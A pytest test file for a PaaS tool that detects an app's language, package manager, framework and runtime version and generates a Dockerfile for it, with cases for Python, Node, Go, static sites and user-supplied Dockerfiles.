"""Detection and Dockerfile generation, without building anything: layouts in temporary directories, the sample
apps in tests/apps/, reasons and warnings in words, Procfile and app.json, and the generated Dockerfiles (which
must parse with our own Dockerfile parser and install dependencies before the code is copied)."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from paas import detect as d
from paas.build.instructions import Cmd, Copy, Env, Expose, Run, User, parse_dockerfile
from paas.errors import DockerfileError, UserError
from tests.conftest import write_files

APPS = Path(__file__).resolve().parents[1] / "apps"




def found(tmp_path: Path, files: dict[str, str], **kwargs) -> d.Detection:
    return d.detect(write_files(tmp_path, files), **kwargs)


def final_stage(text: str):
    return parse_dockerfile(text).stages[-1]


def check_dockerfile(detection: d.Detection, *, dependencies: bool = True) -> str:
    """Generate, parse, and check what every generated Dockerfile promises."""
    text = d.generate(detection)
    parsed = parse_dockerfile(text)
    stage = parsed.stages[-1]
    own = [s for s in parsed.stages if s.name != "assets"]  # a node stage building assets comes first
    assert own[0].image == detection.base_image
    if detection.runtime_image:
        assert stage.image == detection.runtime_image
    body = stage.instructions
    users = [i.user for i in body if isinstance(i, User)]
    assert users and users[-1] == "app", "the app must run as the non-root user"
    assert any(isinstance(i, Env) and ("PORT", "5000") in i.pairs for i in body)
    assert [i.ports for i in body if isinstance(i, Expose)] == [("5000",)]
    cmds = [i for i in body if isinstance(i, Cmd)]
    if detection.processes:
        command = detection.web or next(iter(detection.processes.values()))
        assert len(cmds) == 1 and cmds[0].json_form and cmds[0].command[:2] == ("sh", "-c")
        assert cmds[0].command[2] in (f"exec {command}", command)
    else:
        assert cmds == [] and "no start command was detected" in text
    # dependencies: manifests copied and installed (with a cache mount) before the code
    build_stage = own[0]
    copies = [i for i in build_stage.instructions if isinstance(i, Copy) and i.from_ in (None, "assets")]
    code = [n for n, i in enumerate(copies) if (i.sources, i.dest) in (((".",), "."), (("/app/",), "./"))]
    assert len(code) == 1, "the code is copied once, with COPY . ."
    runs = [i for i in build_stage.instructions if isinstance(i, Run)]
    if dependencies:
        assert code[0] > 0, "dependency manifests come before the code"
        assert any(m.type == "cache" for r in runs for m in r.mounts)
        manifests_at = build_stage.instructions.index(copies[0])
        install_at = next(n for n, i in enumerate(build_stage.instructions) if isinstance(i, Run) and i.mounts
                          and n > manifests_at)
        assert install_at < build_stage.instructions.index(copies[code[0]])
    assert "--link" not in text and "--parents" not in text
    return text


# -- the sample apps ------------------------------------------------------------------------------------------

SAMPLES = {
    # name: (buildpack, package manager, framework, web)
    "python-pip": ("python", "pip", "flask", "gunicorn app:app --bind 0.0.0.0:$PORT"),
    "python-poetry": ("python", "poetry", "flask", "gunicorn app:app --bind 0.0.0.0:$PORT"),
    "python-uv": ("python", "uv", "flask", "gunicorn app:app --bind 0.0.0.0:$PORT"),
    "django": ("python", "pip", "django", "gunicorn project.wsgi --bind 0.0.0.0:$PORT"),
    "flask": ("python", "pip", "flask", "gunicorn hello:application --bind 0.0.0.0:$PORT"),
    "fastapi": ("python", "pip", "fastapi", "uvicorn main:app --host 0.0.0.0 --port $PORT"),
    "node-npm": ("node", "npm", None, "npm start"),
    "node-main": ("node", "npm", None, "node src/app.js"),
    "go": ("go", "go modules", None, "hello"),
    "static": ("static", None, None, "start-nginx"),
    "static-public": ("static", None, None, "start-nginx"),
    "static-staticfile": ("static", None, None, "start-nginx"),
    "node-build-static": ("static", "npm", None, "start-nginx"),
    "node-build-marked": ("static", "npm", None, "start-nginx"),
    "go-nomod": ("go", "go modules", None, "app"),
    "go-cmd": ("go", "go modules", None, "web"),
    "go-workspace": ("go", "go modules", None, "api"),
    "procfile-worker": ("python", "pip", None, "python3 web.py"),
    "zerodowntime": ("python", "pip", None, "python3 server.py"),
    "dockerfile": ("dockerfile", None, None, None),
    # tests/unit/test_detect_layouts_python.py looks closer at these
    "python-worker": ("python", None, None, None),
    "python-script-web": ("python", None, None, "python app.py"),
    "procfile-only": ("python", None, None, "python3 -u web.py"),
    "python-node-assets": ("python", "pip", "flask", "gunicorn app:app --bind 0.0.0.0:$PORT"),
    "python-pdm": ("python", "pdm", "flask", "gunicorn app:app --bind 0.0.0.0:$PORT"),
    "python-pipenv": ("python", "pipenv", "flask", "gunicorn app:app --bind 0.0.0.0:$PORT"),
    "buildpacks-order": ("python", None, None, "python3 -u server.py"),
    # tests/e2e/test_formation_release.py deploys these
    "procfile-dev": ("python", "pip", None, "python3 -u web.py # an inline comment"),
    "formation-json": ("python", "pip", None, "python3 -u web.py"),
    "procfile-worker-only": ("python", "pip", None, None),
}


def test_every_sample_app_is_listed():
    assert sorted(p.name for p in APPS.iterdir() if p.is_dir()) == sorted(SAMPLES)


@pytest.mark.parametrize("name", sorted(SAMPLES))
def test_sample_apps(name):
    buildpack, manager, framework, web = SAMPLES[name]
    detection = d.detect(APPS / name)
    assert (detection.buildpack, detection.package_manager, detection.framework) == (buildpack, manager, framework)
    assert detection.web == web
    assert detection.warnings == () or name == "python-poetry"  # poetry: no lock, on purpose
    assert detection.reasons and all(isinstance(r, str) and "\n" not in r for r in detection.reasons)
    json.dumps(detection.to_dict())
    if buildpack == "dockerfile":
        assert d.generate(detection) == (APPS / name / "Dockerfile").read_text()
        assert detection.port == 8080
        return
    assert detection.port == 5000
    check_dockerfile(detection, dependencies=buildpack not in ("static", "go") and manager is not None)


def test_sample_apps_answer_with_their_name():
    """Each app answers GET / with "hello from <name>" (checked end to end later; here: the text is there), but
    zerodowntime, which answers its release marker (tests/e2e/test_zero_downtime.py)."""
    for name in set(SAMPLES) - {"zerodowntime"}:
        sources = [p for p in (APPS / name).rglob("*") if p.is_file() and p.suffix in (".py", ".js", ".go", ".html")]
        assert any(f"hello from {name}" in p.read_text() for p in sources), name


def test_procfile_worker_sample():
    detection = d.detect(APPS / "procfile-worker")
    assert dict(detection.processes) == {"web": "python3 web.py", "worker": "python3 worker.py"}
    assert detection.procfile and "Procfile: web, worker" in detection.reasons
    assert "worker from procfile-worker started" in (APPS / "procfile-worker" / "worker.py").read_text()


def test_django_sample_runs_collectstatic_as_the_app_user():
    detection = d.detect(APPS / "django")
    assert "Django: manage.py and django in requirements.txt" in detection.reasons
    assert any("STATIC_ROOT set in project/settings.py" in r for r in detection.reasons)
    text = check_dockerfile(detection)
    assert text.index("USER app") < text.index("RUN python manage.py collectstatic --noinput")


def test_node_sample_has_no_dependencies_to_download():
    lock = json.loads((APPS / "node-npm" / "package-lock.json").read_text())
    assert list(lock["packages"]) == [""]
    text = d.generate(d.detect(APPS / "node-npm"))
    assert "COPY package.json package-lock.json ./" in text
    assert "RUN --mount=type=cache,target=/root/.npm \\\n    npm ci --no-audit --omit=dev" in text


# -- order and the no-match error --------------------------------------------------------------------------------

def test_detectors_are_one_explicit_tuple():
    assert [f.__name__ for f in d.DETECTORS] == ["dockerfile", "python", "ruby", "node", "go", "php", "sources",
                                                 "static"]
    assert list(d.looked_for()) == [f.__name__ for f in d.DETECTORS]
    assert d.looked_for()["python"] == ["requirements.txt", "pyproject.toml", "Pipfile", "setup.py"]


def test_first_match_wins(tmp_path):
    files = {"requirements.txt": "", "package.json": '{"scripts": {"start": "node x.js"}}', "go.mod": "module x\n",
             "index.html": "hi"}
    assert found(tmp_path, files).buildpack == "python"
    (tmp_path / "requirements.txt").unlink()
    assert d.detect(tmp_path).buildpack == "node"
    (tmp_path / "Dockerfile").write_text("FROM scratch\n")
    assert d.detect(tmp_path).buildpack == "dockerfile"


def test_nothing_matches_lists_what_was_looked_for(tmp_path):
    write_files(tmp_path, {"README.md": "hi", "src/main.rs": "fn main() {}"})
    with pytest.raises(UserError) as caught:
        d.detect(tmp_path)
    line = caught.value.one_line()
    assert line.startswith(f"cannot tell how to build {tmp_path.resolve()}: looked for dockerfile: Dockerfile; "
                           "python: requirements.txt, pyproject.toml, Pipfile, setup.py; ruby: Gemfile; "
                           "node: package.json; "
                           "go: go.work, go.mod, main.go; php: composer.json, index.php, "
                           "public/index.php; sources: a Procfile running python, node, ruby or php, main.py, "
                           "app.py, PKG/__main__.py; "
                           "static: Staticfile, index.html, public/index.html, dist/index.html")
    assert "add a Dockerfile" in line and "Procfile line `web: COMMAND`" in line and "\n" not in line
    (tmp_path / "Procfile").write_text("web: ./run\n")
    with pytest.raises(UserError) as caught:
        d.detect(tmp_path)
    assert caught.value.hint.startswith("the Procfile runs `./run`, which is not python, node, ruby or php, and the "
                                        "app has no source files we know: add the language's manifest")


def test_missing_directory(tmp_path):
    with pytest.raises(UserError, match="is not a directory"):
        d.detect(tmp_path / "nope")


def test_links_out_of_the_app_are_not_followed(tmp_path):
    outside = write_files(tmp_path / "outside", {"requirements.txt": "flask\n"})
    app = tmp_path / "app"
    app.mkdir()
    (app / "requirements.txt").symlink_to(outside / "requirements.txt")
    (app / "index.html").write_text("hi")
    assert d.detect(app).buildpack == "static"


# -- dockerfile ---------------------------------------------------------------------------------------------------

def test_dockerfile_is_used_as_is_and_expose_is_honoured(tmp_path):
    text = "FROM paas/stack-base:bookworm AS build\nEXPOSE 9999\nFROM paas/stack-base:bookworm\nEXPOSE 8080/tcp 9090\n"
    detection = found(tmp_path, {"Dockerfile": text, "requirements.txt": "flask\n"})
    assert (detection.buildpack, detection.port, detection.files) == ("dockerfile", 8080, ("Dockerfile",))
    assert detection.reasons == ("Dockerfile found: built as-is",
                                 "EXPOSE 8080 in the Dockerfile: the app listens on 8080")
    assert dict(detection.processes) == {"web": None}  # the image's own CMD
    assert detection.base_image is None and detection.version is None
    assert d.generate(detection) == text


def test_dockerfile_without_expose_listens_on_port(tmp_path):
    detection = found(tmp_path, {"Dockerfile": "FROM scratch\nEXPOSE $PORT\n"})
    assert detection.port == 5000
    assert "no EXPOSE in the Dockerfile: the app must listen on $PORT (5000)" in detection.reasons


def test_dockerfile_errors_name_the_line(tmp_path):
    with pytest.raises(DockerfileError) as caught:
        found(tmp_path, {"Dockerfile": "FROM scratch\nRUN --network=host true\n"})
    assert caught.value.line_start == 2


def test_dockerfile_with_procfile(tmp_path):
    detection = found(tmp_path, {"Dockerfile": "FROM scratch\n", "Procfile": "web: ./serve\nworker: ./work\n"})
    assert dict(detection.processes) == {"web": "./serve", "worker": "./work"}
    assert "Procfile: web, worker (its web replaces the image's CMD)" in detection.reasons


# -- python -------------------------------------------------------------------------------------------------------

FLASK_APP = "from flask import Flask\n\napp = Flask(__name__)\n"


def test_requirements_includes_keep_their_directories(tmp_path):
    detection = found(tmp_path, {"requirements.txt": "-r requirements/base.txt\ngunicorn\n",
                                 "requirements/base.txt": "-c constraints.txt\nFlask==3.0\n",
                                 "requirements/constraints.txt": "flask<4\n", "app.py": FLASK_APP})
    assert detection.framework == "flask"
    text = check_dockerfile(detection)
    assert "COPY requirements.txt ./\nCOPY requirements/base.txt requirements/constraints.txt requirements/\n" in text
    assert "gunicorn is not" not in " ".join(detection.reasons)


def test_requirements_with_a_missing_include_warn(tmp_path):
    detection = found(tmp_path, {"requirements.txt": "-r ../outside.txt\n"})
    assert "the requirements include ../outside.txt, which is not in the app" in detection.warnings
    assert "COPY requirements.txt ./" in d.generate(detection)


def test_requirements_installing_the_project_need_the_code_first(tmp_path):
    detection = found(tmp_path, {"requirements.txt": "flask\n-e .\n", "app.py": FLASK_APP})
    assert "requirements.txt installs the project itself: dependencies install after the code is copied" \
        in detection.reasons
    text = d.generate(detection)
    assert text.index("COPY --chown=app:app . .") < text.index("-r requirements.txt")


def test_flask_without_gunicorn_installs_it_before_the_dependencies(tmp_path):
    detection = found(tmp_path, {"requirements.txt": "flask\n", "app.py": FLASK_APP})
    assert "gunicorn is not in requirements.txt: the image installs it to serve the app" in detection.reasons
    assert detection.build["servers"] == ["gunicorn"]
    text = check_dockerfile(detection)
    assert text.index("pip install --cache-dir=/root/.cache/pip gunicorn") < text.index("COPY requirements.txt")


def test_flask_in_a_package_and_annotated(tmp_path):
    detection = found(tmp_path, {"requirements.txt": "flask\ngunicorn\n", "app.py": "import web\n",
                                 "web/__init__.py": "",
                                 "web/server.py": "import flask\nwsgi: flask.Flask = flask.Flask(__name__)\n"})
    assert detection.web == "gunicorn web.server:wsgi --bind 0.0.0.0:$PORT"
    assert "Flask: flask in requirements.txt, web/server.py defines wsgi = Flask(...)" in detection.reasons


def test_flask_factory(tmp_path):
    factory = "from flask import Flask\n\ndef create_app():\n    app = Flask(__name__)\n    return app\n"
    detection = found(tmp_path, {"requirements.txt": "flask\n", "factory.py": factory})
    assert detection.web == "gunicorn 'factory:create_app()' --bind 0.0.0.0:$PORT"
    check_dockerfile(detection)


def test_flask_without_an_app_object_warns_and_has_no_web(tmp_path):
    detection = found(tmp_path, {"requirements.txt": "flask\n", "util.py": "x = 1\n"})
    assert detection.framework is None and dict(detection.processes) == {}
    assert any("no module defines `app = Flask(...)`" in w for w in detection.warnings)
    assert any(w.startswith("no web process") and "Procfile" in w for w in detection.warnings)
    check_dockerfile(detection)


def test_fastapi_with_uvicorn_missing(tmp_path):
    detection = found(tmp_path, {"requirements.txt": "fastapi[all]>=0.100\n",
                                 "src_app.py": "from fastapi import FastAPI\napp = FastAPI(title='x')\n"})
    assert detection.web == "uvicorn src_app:app --host 0.0.0.0 --port $PORT"
    assert detection.build["servers"] == ["uvicorn"]
    assert "uvicorn is not in requirements.txt: the image installs it to serve the app" in detection.reasons


def test_modules_in_virtualenvs_and_tests_are_not_searched(tmp_path):
    detection = found(tmp_path, {"requirements.txt": "flask\n", "tests/app.py": FLASK_APP, ".venv/app.py": FLASK_APP})
    assert detection.framework is None


DJANGO_MANAGE = "import os\nos.environ.setdefault('DJANGO_SETTINGS_MODULE', 'mysite.settings.production')\n"


def test_django_settings_package_and_static_root(tmp_path):
    detection = found(tmp_path, {"requirements.txt": "Django>=4\n", "manage.py": DJANGO_MANAGE,
                                 "mysite/__init__.py": "", "mysite/wsgi.py": "",
                                 "mysite/settings/__init__.py": "", "mysite/settings/base.py": "DEBUG = False\n",
                                 "mysite/settings/production.py": "STATIC_ROOT = '/app/static'\n"})
    assert detection.web == "gunicorn mysite.wsgi --bind 0.0.0.0:$PORT"
    assert detection.reasons[:4] == (
        "requirements.txt found", "package manager: pip (requirements.txt)",
        "Django: manage.py and django in requirements.txt",
        "Django project `mysite` (DJANGO_SETTINGS_MODULE mysite.settings.production in manage.py): "
        "web serves mysite.wsgi")
    assert "STATIC_ROOT set in mysite/settings/production.py: collectstatic runs during the build" in detection.reasons
    assert detection.build["servers"] == ["gunicorn"]
    assert "collectstatic" in check_dockerfile(detection)


def test_django_without_static_root_skips_collectstatic(tmp_path):
    detection = found(tmp_path, {"requirements.txt": "django\ngunicorn\n", "manage.py": "",
                                 "config/wsgi.py": "", "config/settings.py": "STATIC_URL = '/static/'\n"})
    assert detection.web == "gunicorn config.wsgi --bind 0.0.0.0:$PORT"
    assert "STATIC_ROOT not set in the settings: collectstatic is skipped" in detection.reasons
    assert "RUN python manage.py collectstatic" not in d.generate(detection)


def test_django_without_manage_py_is_not_django(tmp_path):
    detection = found(tmp_path, {"requirements.txt": "django\n"})
    assert detection.framework is None
    assert "django is in requirements.txt but manage.py is missing" in detection.warnings


@pytest.mark.parametrize(("files", "manager", "expect"), [
    ({"pyproject.toml": "[tool.poetry]\nname = 'x'\n[tool.poetry.dependencies]\npython = '^3.11'\nflask = '*'\n",
      "poetry.lock": ""},
     "poetry", ["COPY pyproject.toml poetry.lock ./", "/usr/bin/python3 -m venv /opt/poetry",
                "poetry install --no-interaction --no-ansi --only main --no-root",
                "--mount=type=cache,target=/root/.cache/pypoetry"]),
    ({"pyproject.toml": "[project]\nname = 'x'\ndependencies = ['flask']\n", "uv.lock": ""},
     "uv", ["COPY pyproject.toml uv.lock ./", "uv sync --no-dev --no-install-project --inexact --frozen",
            "UV_PROJECT_ENVIRONMENT=/opt/venv", "--mount=type=cache,target=/root/.cache/uv"]),
    ({"pyproject.toml": "[project]\nname = 'x'\ndependencies = ['flask']\n[tool.uv]\ndev-dependencies = []\n"},
     "uv", ["COPY pyproject.toml ./", "uv sync --no-dev --no-install-project --inexact\n"]),
    ({"pyproject.toml": "[project]\nname = 'x'\ndependencies = ['flask']\n", "pdm.lock": ""},
     "pdm", ["COPY pyproject.toml pdm.lock ./", "pdm install --prod --no-self --no-editable --frozen-lockfile"]),
    ({"pyproject.toml": "[project]\nname = 'x'\ndependencies = ['flask>=3', 'gunicorn']\n"},
     "pip", ["COPY pyproject.toml ./", "tomllib.load(open(\"pyproject.toml\", \"rb\"))",
             "pip install --cache-dir=/root/.cache/pip -r /tmp/requirements.txt"]),
    ({"Pipfile": "[packages]\nflask = '*'\n[requires]\npython_version = '3.11'\n", "Pipfile.lock": "{}"},
     "pipenv", ["COPY Pipfile Pipfile.lock ./", "pipenv install --deploy"]),
    ({"Pipfile": "[packages]\nflask = '*'\n"}, "pipenv", ["COPY Pipfile ./", "pipenv install --skip-lock"]),
])
def test_python_package_managers(tmp_path, files, manager, expect):
    detection = found(tmp_path, {**files, "app.py": FLASK_APP})
    assert detection.package_manager == manager
    assert detection.framework == "flask"
    text = check_dockerfile(detection)
    for snippet in expect:
        assert snippet in text, snippet


def test_setup_py_installs_after_the_code(tmp_path):
    setup = "from setuptools import setup\nsetup(name='x', install_requires=['flask>=2'])\n"
    detection = found(tmp_path, {"setup.py": setup, "app.py": FLASK_APP})
    assert detection.package_manager == "pip" and detection.framework == "flask"
    assert "setup.py: the project and its dependencies install after the code is copied" in detection.reasons
    text = check_dockerfile(detection, dependencies=False)
    assert text.index("COPY --chown=app:app . .") < text.index("pip install --cache-dir=/root/.cache/pip .")


def test_pyproject_for_tools_only_falls_through(tmp_path):
    detection = found(tmp_path, {"pyproject.toml": "[tool.ruff]\nline-length = 100\n", "setup.py": "setup()\n"})
    assert detection.files == ("setup.py",)
    assert "pyproject.toml has no [project] table and no poetry/uv/pdm section: not used" in detection.reasons
    (tmp_path / "setup.py").unlink()
    (tmp_path / "index.html").write_text("hi")
    assert d.detect(tmp_path).buildpack == "static"


def test_several_python_manifests(tmp_path):
    detection = found(tmp_path, {"requirements.txt": "", "pyproject.toml": "[project]\nname='x'\n", "setup.py": ""})
    assert "also found pyproject.toml, setup.py; requirements.txt comes first" in detection.reasons


def test_invalid_toml_is_an_error_naming_the_file(tmp_path):
    with pytest.raises(UserError, match=r"^pyproject.toml: invalid TOML"):
        found(tmp_path, {"pyproject.toml": "[project\n"})


@pytest.mark.parametrize(("files", "requested", "source"), [
    ({".python-version": "# pinned\n3.11.4\n"}, "3.11.4", ".python-version"),
    ({"runtime.txt": "python-3.11.9\n"}, "3.11.9", "runtime.txt"),
    ({"pyproject.toml": "[project]\nname='x'\nrequires-python = '>=3.9,<3.13'\n"}, ">=3.9,<3.13",
     "pyproject.toml requires-python"),
    ({"Pipfile": "[requires]\npython_version = '3.11'\n"}, "3.11", "Pipfile [requires] python_version"),
    ({".python-version": "3.11\n", "runtime.txt": "python-3.12.1\n"}, "3.11", ".python-version"),
])
def test_python_version_sources(tmp_path, files, requested, source):
    if "Pipfile" not in files and "pyproject.toml" not in files:
        files["requirements.txt"] = ""
    detection = found(tmp_path, {**files, "Procfile": "web: python3 -m http.server $PORT\n"})
    v = detection.version
    assert (v.language, v.requested, v.source, v.chosen, v.note, v.suite) == ("python", requested, source, "3.11",
                                                                              None, "bookworm")
    assert f"python 3.11 on bookworm ({requested} requested in {source})" in detection.reasons
    assert detection.warnings == ()
    assert detection.base_image == "paas/stack-python:bookworm"


@pytest.mark.parametrize(("files", "language", "chosen"), [
    ({"requirements.txt": "", ".python-version": "3.13\n"}, "python", "3.13"),
    ({"requirements.txt": "", "runtime.txt": "python-3.13.1\n"}, "python", "3.13"),
    ({"pyproject.toml": "[project]\nname='x'\nrequires-python = '>=3.12'\n"}, "python", "3.13"),
    ({"package.json": '{"engines": {"node": ">=20"}}', "index.js": ""}, "node", "20"),
    ({"package.json": "{}", ".nvmrc": "v20.11.1\n", "index.js": ""}, "node", "20"),
    ({"go.mod": "module x\n\ngo 1.21\n", "main.go": "package main\nfunc main() {}\n"}, "go", "1.24"),
    ({"Gemfile": "ruby '3.3.4'\ngem 'rack'\n", "config.ru": ""}, "ruby", "3.3"),
    ({"Gemfile": "gem 'rack'\n", ".ruby-version": "3.3\n", "config.ru": ""}, "ruby", "3.3"),
    ({"composer.json": '{"require": {"php": "^8.4"}}', "index.php": ""}, "php", "8.4"),
])
def test_a_version_only_trixie_has_picks_the_trixie_stack(tmp_path, files, language, chosen):
    detection = found(tmp_path, {**files, "Procfile": "web: x\n"})
    v = detection.version
    assert (v.language, v.chosen, v.suite, v.note) == (language, chosen, "trixie", None)
    assert detection.base_image == f"paas/stack-{language}:trixie"
    assert any(r.startswith(f"{language} {chosen} on trixie ({v.requested} requested in {v.source}; bookworm has ")
               for r in detection.reasons), detection.reasons
    text = d.generate(detection)
    assert f"FROM paas/stack-{language}:trixie" in text
    if language == "go":  # the runtime stage comes from the same suite as the build stage
        assert detection.runtime_image == "paas/stack-base:trixie"
        assert text.rstrip().count("FROM paas/stack-base:trixie") == 1


def test_no_request_gets_the_default_suite(tmp_path):
    detection = found(tmp_path, {"requirements.txt": "", "Procfile": "web: x\n"})
    assert (detection.version.chosen, detection.version.suite) == ("3.11", "bookworm")
    assert "python 3.11 on bookworm (no version requested; the default suite)" in detection.reasons
    settings = d.StackSettings(default_suite="trixie")
    detection = found(tmp_path, {"requirements.txt": "", "Procfile": "web: x\n"}, stacks=settings)
    assert (detection.version.chosen, detection.base_image) == ("3.13", "paas/stack-python:trixie")
    # a request both suites satisfy stays on the default suite
    detection = found(tmp_path, {".python-version": "3\n"}, stacks=settings)
    assert detection.version.suite == "trixie"
    detection = found(tmp_path, {".python-version": "3\n"})
    assert detection.version.suite == "bookworm"


def test_a_version_no_stack_has_is_an_error_naming_what_we_have(tmp_path):
    with pytest.raises(UserError) as caught:
        found(tmp_path, {"requirements.txt": "", ".python-version": "3.9\n", "Procfile": "web: x\n"})
    assert str(caught.value) == ("python 3.9 requested in .python-version; stacks provide 3.11 (bookworm) and 3.13 "
                                 "(trixie)")
    assert caught.value.hint == ("ask for one of those in .python-version, or add a Dockerfile FROM an image with "
                                 "python 3.9 (an operator can set stacks.python.image to one, or "
                                 "stacks.version_mismatch: nearest to build with the nearest)")
    with pytest.raises(UserError, match=r"^node 22 requested in \.nvmrc; stacks provide 18 \(bookworm\) and 20 "):
        found(tmp_path / "node", {"package.json": "{}", ".nvmrc": "22\n", "index.js": ""})
    with pytest.raises(UserError, match=r"^go 1.25 requested in go.mod go directive; stacks provide 1.19 \(bookworm"):
        found(tmp_path / "go", {"go.mod": "module x\n\ngo 1.25\n", "main.go": "package main\n"})


def test_nearest_instead_of_the_error_when_the_operator_says_so(tmp_path):
    settings = d.StackSettings(mismatch="nearest")
    detection = found(tmp_path, {"requirements.txt": "", "runtime.txt": "python-3.12.1\n", "Procfile": "web: x\n"},
                      stacks=settings)
    v = detection.version
    assert (v.requested, v.chosen, v.suite) == ("3.12.1", "3.11", "bookworm")  # 3.11 and 3.13 tie: the older
    assert detection.warnings == (
        "python 3.12.1 requested in runtime.txt; stacks provide 3.11 (bookworm) and 3.13 (trixie); building with "
        "python 3.11 on bookworm, the nearest (stacks.version_mismatch: nearest)",)
    assert v.note == detection.warnings[0]
    assert "warning: python 3.12.1 requested" in d.generate(detection)
    detection = found(tmp_path, {".python-version": "3.14\n"}, stacks=settings)
    assert (detection.version.chosen, detection.base_image) == ("3.13", "paas/stack-python:trixie")


def test_a_request_that_cannot_be_read_warns_and_gets_the_default_suite(tmp_path):
    detection = found(tmp_path, {"package.json": "{}", ".nvmrc": "lts/*\n", "index.js": ""})
    assert (detection.version.chosen, detection.version.suite) == ("18", "bookworm")
    assert "node version 'lts/*' (.nvmrc) not understood; building with node 18 on bookworm, the default" in \
        detection.warnings


def test_stack_settings_from_the_config(tmp_path):
    from paas.config import Config
    from paas.errors import ConfigError

    config = Config({"stacks": {"default_suite": "trixie", "version_mismatch": "nearest",
                                "python": {"image": "reg/python:3.12"}, "node": {"image": ""}}})
    assert d.configured_stacks(config) == d.StackSettings({"python": "reg/python:3.12"}, "trixie", "nearest")
    assert d.configured_stacks(Config({})) == d.StackSettings()
    with pytest.raises(ConfigError, match="stacks.version_mismatch is 'warn'"):
        d.configured_stacks(Config({"stacks": {"version_mismatch": "warn"}}))


def test_runtime_txt_without_prefix_warns(tmp_path):
    detection = found(tmp_path, {"requirements.txt": "", "runtime.txt": "3.11\n"})
    assert "runtime.txt should read python-X.Y.Z, not '3.11'" in detection.warnings


def test_configured_stack_image_is_used_and_its_version_not_checked(tmp_path):
    detection = found(tmp_path, {"requirements.txt": "", "runtime.txt": "python-3.12.1\n", "Procfile": "web: x\n"},
                      stacks={"python": "registry.example.com/python:3.12", "node": "x"})
    assert detection.base_image == "registry.example.com/python:3.12"
    assert detection.warnings == ()
    assert detection.version.chosen is None and detection.version.requested == "3.12.1"
    assert ("python from the configured stack image registry.example.com/python:3.12 (3.12.1 requested in "
            "runtime.txt; its version is not checked)") in detection.reasons
    assert d.generate(detection).count("FROM registry.example.com/python:3.12\n") == 1


def test_default_stack_images():
    assert d.default_stack_image("python") == "paas/stack-python:bookworm"
    assert d.default_stack_image("base") == "paas/stack-base:bookworm"
    assert d.default_stack_image("base", "trixie") == "paas/stack-base:trixie"


# -- node ---------------------------------------------------------------------------------------------------------

def pkg(**fields) -> str:
    return json.dumps({"name": "x", "version": "1.0.0", **fields})


@pytest.mark.parametrize(("files", "manager", "expect"), [
    ({"package.json": pkg(scripts={"start": "node s.js"})}, "npm",
     ["COPY package.json ./", "npm install --no-audit --omit=dev", "--mount=type=cache,target=/root/.npm"]),
    ({"package.json": pkg(scripts={"start": "node s.js"}), "yarn.lock": "# yarn lockfile v1\n"}, "yarn",
     ["COPY package.json yarn.lock ./", "npm install --global --no-audit yarn@1",
      "yarn install --frozen-lockfile --non-interactive --production", "target=/usr/local/share/.cache/yarn"]),
    ({"package.json": pkg(scripts={"start": "node s.js"}), "pnpm-lock.yaml": "lockfileVersion: '9.0'\n"}, "pnpm",
     ["COPY package.json pnpm-lock.yaml ./", "npm install --global --no-audit pnpm@9",
      "pnpm install --frozen-lockfile --prod", "target=/root/.local/share/pnpm/store"]),
    ({"package.json": pkg(scripts={"start": "x"}), "pnpm-lock.yaml": "lockfileVersion: '6.0'\n"}, "pnpm",
     ["pnpm@8"]),
    ({"package.json": pkg(scripts={"start": "x"}, packageManager="pnpm@8.15.4+sha256.abc"),
      "package-lock.json": "{}"}, "pnpm", ["npm install --global --no-audit pnpm@8.15.4", "pnpm install --prod"]),
    ({"package.json": pkg(scripts={"start": "x"}), "npm-shrinkwrap.json": "{}"}, "npm",
     ["COPY package.json npm-shrinkwrap.json ./", "npm ci --no-audit --omit=dev"]),
    ({"package.json": pkg(scripts={"start": "x"}, packageManager="yarn@4.1.0"), "yarn.lock": "__metadata:\n",
      ".yarnrc.yml": "yarnPath: .yarn/releases/yarn-4.1.0.cjs\n", ".yarn/releases/yarn-4.1.0.cjs": ""}, "yarn",
     ["COPY package.json yarn.lock .yarnrc.yml ./", "COPY .yarn/releases .yarn/releases/", "yarn install --immutable"]),
])
def test_node_package_managers(tmp_path, files, manager, expect):
    detection = found(tmp_path, files)
    assert detection.package_manager == manager
    text = check_dockerfile(detection)
    for snippet in expect:
        assert snippet in text, snippet


def test_node_build_script_installs_dev_dependencies_then_prunes(tmp_path):
    detection = found(tmp_path, {"package.json": pkg(scripts={"build": "tsc", "start": "node dist/index.js"}),
                                 "package-lock.json": "{}"})
    assert "scripts.build: `npm run build` runs during the build, then devDependencies go" in detection.reasons
    text = check_dockerfile(detection)
    assert "    npm ci --no-audit\n" in text
    assert "RUN npm run build \\\n && npm prune --omit=dev --no-audit" in text
    assert text.index("COPY --chown=app:app . .") < text.index("RUN npm run build") < text.index("NODE_ENV=production")


@pytest.mark.parametrize(("files", "web", "warning"), [
    ({"package.json": pkg(main="lib/server.js"), "lib/server.js": ""}, "node lib/server.js", None),
    ({"package.json": pkg(main="index.js"), "server.js": ""}, "node server.js",
     "main in package.json names 'index.js', which does not exist"),
    ({"package.json": pkg(), "index.js": "", "server.js": ""}, "node index.js", None),
    ({"package.json": pkg(main="my app.js"), "my app.js": ""}, "node 'my app.js'", None),
])
def test_node_start_commands(tmp_path, files, web, warning):
    detection = found(tmp_path, files)
    assert detection.web == web
    assert (warning in detection.warnings) if warning else "no web" not in " ".join(detection.warnings)


def test_node_without_a_start_command(tmp_path):
    detection = found(tmp_path, {"package.json": pkg()})
    assert dict(detection.processes) == {}
    assert any(w.startswith("no web process") for w in detection.warnings)


def test_node_versions(tmp_path):
    detection = found(tmp_path, {"package.json": pkg(engines={"node": "^20.1"}), ".nvmrc": "18\n", "index.js": ""})
    assert (detection.version.requested, detection.version.source) == ("^20.1", "package.json engines.node")
    assert (detection.version.chosen, detection.version.suite) == ("20", "trixie")
    assert detection.base_image == "paas/stack-node:trixie"
    (tmp_path / "package.json").write_text(pkg())
    assert d.detect(tmp_path).version.source == ".nvmrc"


def test_node_bad_manifests(tmp_path):
    with pytest.raises(UserError, match=r"^package.json:3: invalid JSON"):
        found(tmp_path, {"package.json": '{\n  "name": "x",\n  oops\n}'})
    (tmp_path / "package.json").write_text("[]")
    with pytest.raises(UserError, match="must hold a JSON object"):
        d.detect(tmp_path)


def test_node_unusual_package_managers(tmp_path):
    detection = found(tmp_path, {"package.json": pkg(packageManager="bun@1.0.0", scripts={"start": "x"}),
                                 "yarn.lock": "", "package-lock.json": "{}"})
    assert detection.package_manager == "npm"
    assert "packageManager 'bun@1.0.0' is not supported (npm, yarn, pnpm are); using the lockfile instead" \
        in detection.warnings
    assert "yarn.lock ignored: npm is used" in detection.warnings
